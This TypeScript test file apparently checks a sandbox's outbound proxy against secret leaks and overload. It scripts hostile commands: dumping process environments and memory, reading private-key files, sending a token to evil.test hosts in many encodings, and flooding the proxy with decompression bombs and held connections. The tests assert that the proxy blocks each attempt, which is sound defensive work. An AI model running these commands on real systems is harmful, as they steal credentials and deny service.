/**
 * Attempts to have a secret that the proxy has, to send away one that was told, and to ask for more than is to be had.
 */
import { assert } from "@effect/vitest"
import * as Sandbox from "effect-claw/services/Sandbox"
import * as Effect from "effect/Effect"
import { gzipSync } from "node:zlib"
import { group, type Place, real } from "./Attempt.ts"
import { type Attempted, says, allSay, sent, connectTo, get, plain, secure, asked, inSession } from "./outward.ts"
import type { World } from "./World.ts"

const bearer = `-H "authorization: Bearer $TOKEN"`

/** Asks the host that has the secret for something that repeats it; what comes shows the placeholder, or the refusal. */
const repeated = (name: string, path: string, options = bearer, holds = says(/claw_secret_TOKEN/)): Attempted => ({
  name: `a host that repeats it, ${name}`,
  container: ({ world: { internet } }) =>
    `for base in ${plain(internet)} ${secure(internet)}; do curl -sS -m 4 ${options} "$base${path}"; done`,
  holds
})

/** Sends a secret that the agent was told to a host that may not have it. */
const told = (name: string, messages: (internet: World["internet"]) => ReadonlyArray<string>): Attempted => ({
  name: `a secret that it was told, ${name}`,
  container: ({ world: { internet } }) => sent(...messages(internet)),
  holds: allSay(/^answered (?:4\d\d|50[123]|by nothing)$/)
})

const toOpen = (internet: World["internet"], headers: string, body: string | Buffer) => {
  const bytes = typeof body === "string" ? body : body.toString("latin1")
  return `POST ${plain(internet, "open.test")}/ HTTP/1.1\r\nhost: a\r\nconnection: close\r\n${headers}content-length: ${bytes.length}\r\n\r\n${bytes}`
}

export const wayOutSecrets = group(
  "The way out: secrets",
  inSession([
    {
      name: "the environment and the command line of every process",
      container: "env; cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline /proc/[0-9]*/task/*/environ | tr '\\0' '\\n'; set",
      holds: says(/^TOKEN=claw_secret_TOKEN$/m)
    },
    {
      name: "every file that can be read, of the way out, the home and the kernel's",
      container:
        "cat /run/claw/*.pem; grep -rIs . ~ /tmp /workspace /run /etc | head -c 3000000; for f in status stat maps mountinfo net/unix net/tcp limits; do cat /proc/[0-9]*/$f; done | head -c 200000 | md5sum",
      deadline: "20 seconds"
    },
    {
      name: "the memory of the forwarder and of the runner",
      container: `python3 - <<'PY'
import os
for pid in [p for p in os.listdir('/proc') if p.isdigit() and int(p) != os.getpid()]:
    try:
        for line in open('/proc/%s/maps' % pid):
            begin, end = (int(x, 16) for x in line.split()[0].split('-'))
            if 'r' not in line.split()[1] or end - begin > 1 << 26: continue
            with open('/proc/%s/mem' % pid, 'rb') as memory:
                memory.seek(begin)
                try: os.write(1, memory.read(end - begin)[:200000])
                except (OSError, ValueError): pass
    except OSError as e: print(e.strerror.lower())
PY`,
      deadline: "20 seconds"
    },
    {
      name: "the key of the authority",
      container: ({ own, world: { internet } }: Place) =>
        `ls ${own.way?.folder}/..; cat ${own.way?.folder}/../authority.pem /run/claw/../authority.pem /run/claw/authority.pem /proc/[0-9]*/root/run/claw/../authority.pem; grep -c 'PRIVATE KEY' /run/claw/authorities.pem; curl -sS -m 3 '${plain(internet)}/../../authority.pem' --path-as-is; ${sent(get("/authority.pem"), get("/run/claw/authority.pem"), get("file:///run/claw/authority.pem"))}`,
      holds: says(/^0$/m)
    },
    {
      name: "its own host, over plain HTTP, on the ports of both",
      container: ({ world: { internet } }) =>
        `for port in ${internet.port} ${internet.securePort}; do curl -sS -m 4 ${bearer} "http://sealed.test:$port/echo"; done`,
      holds: says(/the rule for sealed.test has a secret, which goes over HTTPS only/)
    },
    repeated("in its answer", "/echo?a=claw_secret_TOKEN"),
    repeated("in basic authorization", "/echo", '-u "me:$TOKEN"', says(/[Bb]asic/)),
    repeated(
      "in an address and in cookies",
      "/echo/claw_secret_TOKEN?k=claw_secret_TOKEN",
      `${bearer} -b a=claw_secret_TOKEN`
    ),
    repeated("in base64, percent signs, hexadecimal and UTF-16", "/forms"),
    repeated("in headers, a status and an early hint", "/header", `${bearer} -i`),
    repeated("in a header's name", "/name", `${bearer} -i`),
    repeated("in a trailer", "/trailer", `${bearer} -i --raw -H 'te: trailers'`, says(/in a trailer/)),
    repeated("a character at a time", "/pieces"),
    repeated("where it redirects to", "/redirect?to=/echo", `${bearer} -iL`),
    repeated("compressed", "/content-encoding", `${bearer} --compressed`, says(/cannot be looked through/)),
    {
      name: "a host that repeats it, compressed on its way",
      container: ({ world: { internet } }) => `python3 - <<'PY'
import os, re, socket, zlib
s = socket.create_connection(('127.0.0.1', 3128)); s.settimeout(2); got = b''
s.sendall(('GET ${plain(internet)}/transfer-encoding HTTP/1.1\\r\\nhost: a\\r\\nte: gzip\\r\\nconnection: close\\r\\nauthorization: Bearer ' + os.environ['TOKEN'] + '\\r\\n\\r\\n').encode())
try:
    while True:
        more = s.recv(65536)
        if not more: break
        got += more
except OSError: pass
print(got.decode('latin1'))
body = got.partition(b'\\r\\n\\r\\n')[2]
begin = body.find(b'\\x1f\\x8b')
if begin >= 0: print(zlib.decompressobj(31).decompress(body[begin:]).decode())
PY`,
      holds: says(/HTTP\/1\.1 502/)
    },
    {
      name: "a host that repeats it, a part at a time",
      container: ({ world: { internet } }) =>
        `a=$(curl -sS -m 3 ${bearer} -r 0-14 ${plain(internet)}/range); b=$(curl -sS -m 3 ${bearer} -r 15- ${plain(internet)}/range); echo "$a$b"`,
      holds: says(/claw_secret_TOKEN/)
    },
    {
      name: "its placeholder, to other hosts",
      container: ({ world: { internet } }) =>
        `curl -sS -m 3 ${bearer} -u "me:$TOKEN" -b "a=$TOKEN" -d "$TOKEN" "${plain(internet, "open.test")}/echo?k=$TOKEN"; curl -sS -m 3 ${bearer} "${plain(internet, "strict.test")}/ok"; curl -sS -m 3 ${bearer} "${plain(internet, "evil.test")}/"; curl -sS -m 3 ${bearer} -H 'host: open.test' "${plain(internet)}/hello"`,
      holds: says(/claw_secret_TOKEN/)
    },
    {
      name: "its placeholder, where a host's name is",
      container: ({ world: { internet } }) =>
        `${asked(internet, "claw_secret_TOKEN.evil.test", "claw_secret_TOKEN@evil.test")}
curl -sS -m 3 http://claw_secret_TOKEN.wild.test:${internet.port}/echo`,
      holds: (seen) => assert.notMatch(seen.stdout, /answered 200$/m)
    },
    told("plain, in an address, a header and a body", (internet) => [
      get(`${plain(internet, "open.test")}/${internet.spilled}`),
      get(`${plain(internet, "open.test")}/?a=${internet.spilled}`),
      get(`${plain(internet, "open.test")}/`, `host: a\r\nx: ${internet.spilled}\r\n`),
      get(`${plain(internet, "open.test")}/`, `host: a\r\n${internet.spilled}: x\r\n`),
      toOpen(internet, "", internet.spilled),
      toOpen(internet, "", `${"x".repeat(70_000)}${internet.spilled}`)
    ]),
    told("to the host of another", (internet) => [
      get(`${plain(internet)}/?a=${internet.spilled}`),
      get(`${plain(internet)}/`, `host: a\r\nauthorization: Bearer ${internet.spilled}\r\n`)
    ]),
    told("in percent signs, base64, hexadecimal and UTF-16", ({ spilled, ...internet }) => {
      const all = { spilled, ...internet }
      const percent = spilled.replace(/./g, (character) => `%${character.charCodeAt(0).toString(16)}`)
      return [
        get(`${plain(all, "open.test")}/?a=${percent}`),
        get(`${plain(all, "open.test")}/?a=${percent.replaceAll("%", "%25")}`),
        ...[0, 1, 2].map((length) => toOpen(all, "", Buffer.from("x".repeat(length) + spilled).toString("base64"))),
        get(`${plain(all, "open.test")}/${Buffer.from(spilled).toString("base64url")}`),
        get(`${plain(all, "open.test")}/${Buffer.from(spilled).toString("hex")}`),
        get(
          `${plain(all, "open.test")}/`,
          `host: a\r\nauthorization: Basic ${Buffer.from(`x:${spilled}`).toString("base64")}\r\n`
        ),
        toOpen(all, "", Buffer.from(spilled, "utf16le"))
      ]
    }),
    told("compressed, with more behind it, and compressed twice", (internet) => [
      toOpen(internet, "content-encoding: gzip\r\n", gzipSync(internet.spilled)),
      toOpen(internet, "content-encoding: gzip\r\n", Buffer.concat([gzipSync("x"), gzipSync(internet.spilled)])),
      toOpen(
        internet,
        "content-encoding: gzip\r\n",
        Buffer.concat([gzipSync("x"), Buffer.from(`\0\0\0${internet.spilled}`)])
      ),
      toOpen(internet, "content-encoding: gzip, gzip\r\n", gzipSync(gzipSync(internet.spilled))),
      toOpen(internet, "content-encoding: zstd\r\n", internet.spilled),
      toOpen(internet, "content-encoding: gzip\r\ncontent-encoding: identity\r\n", gzipSync(internet.spilled))
    ]),
    told("in chunks, a character each, and in what chunks say beside", (internet) => {
      const head = `POST ${plain(internet, "open.test")}/ HTTP/1.1\r\nhost: a\r\nconnection: close\r\ntransfer-encoding: chunked\r\n\r\n`
      return [
        `${head}${internet.spilled
          .split("")
          .map((character) => `1\r\n${character}\r\n`)
          .join("")}0\r\n\r\n`
      ]
    }),
    told("in a host's name", (internet) => [
      get(`http://${internet.spilled}.wild.test:${internet.port}/`),
      get(`http://${internet.spilled.toUpperCase()}.wild.test:${internet.port}/`),
      connectTo(`${internet.spilled}.wild.test:${internet.securePort}`),
      connectTo(`${internet.spilled}.evil.test:${internet.securePort}`)
    ])
  ])
)

export const wayOutMuch = group(
  "The way out: too much",
  inSession([
    {
      name: "a body without end",
      container: ({ world: { internet } }) =>
        `head -c 100000000 /dev/zero | curl -sS -m 8 -T - -o /dev/null -w '%{http_code}\\n' ${plain(internet)}/echo; head -c 100000000 /dev/zero | curl -sS -m 8 -T - -o /dev/null -w '%{http_code}\\n' ${secure(internet)}/echo`,
      deadline: "20 seconds",
      holds: (seen) => assert.notMatch(seen.stdout, /^200$/m)
    },
    {
      name: "an answer without end",
      container: ({ world: { internet } }) =>
        `curl -sS -m 8 -o /dev/null -w '%{size_download}\\n' ${plain(internet)}/endless; curl -sS -m 8 -o /dev/null -w '%{size_download}\\n' ${secure(internet, "open.test")}/endless; curl -sS -m 8 ${bearer} --limit-rate 1k -o /dev/null -w '%{size_download}\\n' ${plain(internet)}/endless`,
      deadline: "30 seconds",
      holds: (seen) => {
        for (const size of seen.stdout.trim().split("\n")) assert.isAtMost(Number(size), 33 * 1024 * 1024)
      }
    },
    {
      name: "an answer that never comes",
      container: ({ world: { internet } }) =>
        `curl -sS -m 9 -o /dev/null -w '%{http_code}\\n' ${plain(internet)}/never`,
      deadline: "12 seconds",
      holds: says(/^504$/m)
    },
    {
      name: "a body that is large once it is decoded",
      container: ({ world: { internet } }) =>
        `head -c 2000000000 /dev/zero | gzip -1 > z; for i in 1 2 3 4; do curl -sS -m 8 -H 'content-encoding: gzip' -H 'expect:' --data-binary @z -o /dev/null -w '%{http_code}\\n' ${plain(internet)}/echo & done; wait`,
      deadline: "45 seconds",
      holds: (seen) => assert.notMatch(seen.stdout, /^200$/m)
    },
    {
      name: "a thousand connections at once, while another session asks",
      act: {
        in: real,
        by: ({ neighbour, own, world: { internet } }) =>
          Effect.gen(function* () {
            const attack = yield* Effect.forkChild(
              Sandbox.run(own.session, {
                run: `python3 - <<'PY'
import resource, socket, time
resource.setrlimit(resource.RLIMIT_NOFILE, (resource.getrlimit(resource.RLIMIT_NOFILE)[1],) * 2)
held = []
for i in range(1000):
    try:
        s = socket.socket(); s.settimeout(1); s.connect(('127.0.0.1', 3128)); s.send(b'GET ${plain(internet)}/ HTTP/1.1\\r\\nhost:'); held.append(s)
    except OSError: pass
print('held', len(held), flush=True)
time.sleep(3)
PY`,
                deadline: "20 seconds"
              })
            )
            yield* Effect.sleep("1 second")
            const ask = `curl -sS -m 1 http://neighbour.test:${internet.port}${internet.neighbourPath}`
            const asked = yield* Effect.forEach([1, 2, 3, 4], () =>
              Effect.delay(Sandbox.run(neighbour.session, { run: ask }), "200 millis")
            )
            assert.deepStrictEqual(
              asked.map(({ stdout }) => stdout),
              asked.map(() => "hello\n"),
              asked.map(({ stderr }) => stderr).join("\n")
            )
            attack.interruptUnsafe()
            return "the other session is answered"
          })
      }
    },
    {
      name: "requests that never end, on all connections",
      container: ({ world: { internet } }) => `python3 - <<'PY'
import socket, time
held = [socket.create_connection(('127.0.0.1', 3128)) for i in range(70)]
for turn in range(8):
    for s in held:
        try: s.send(b'POST ${plain(internet)}/echo HTTP/1.1\\r\\nhost: a\\r\\ncontent-length: 100\\r\\n\\r\\n' if turn == 0 else b'x')
        except OSError: pass
    time.sleep(0.2)
PY`
    },
    {
      name: "requests without number",
      alone: {},
      container: ({ world: { internet } }) => `python3 - <<'PY'
import re, socket
s = socket.create_connection(('127.0.0.1', 3128)); s.settimeout(5); seen = {}
import threading
def feed():
    try:
        for i in range(4000): s.sendall(b'GET ${plain(internet)}/ HTTP/1.1\\r\\nhost: a\\r\\n\\r\\n')
    except OSError: pass
threading.Thread(target=feed, daemon=True).start()
got = b''
try:
    while True:
        more = s.recv(65536)
        if not more: break
        got += more
except OSError: pass
for status in re.findall(rb'^HTTP/1.1 (\\d+)', got, re.M): seen[status] = seen.get(status, 0) + 1
print(seen)
PY`,
      deadline: "30 seconds",
      holds: (seen) => assert.isAtMost(Number(/b'200': (\d+)/.exec(seen.stdout)?.[1] ?? 0), 3000)
    }
  ])
)
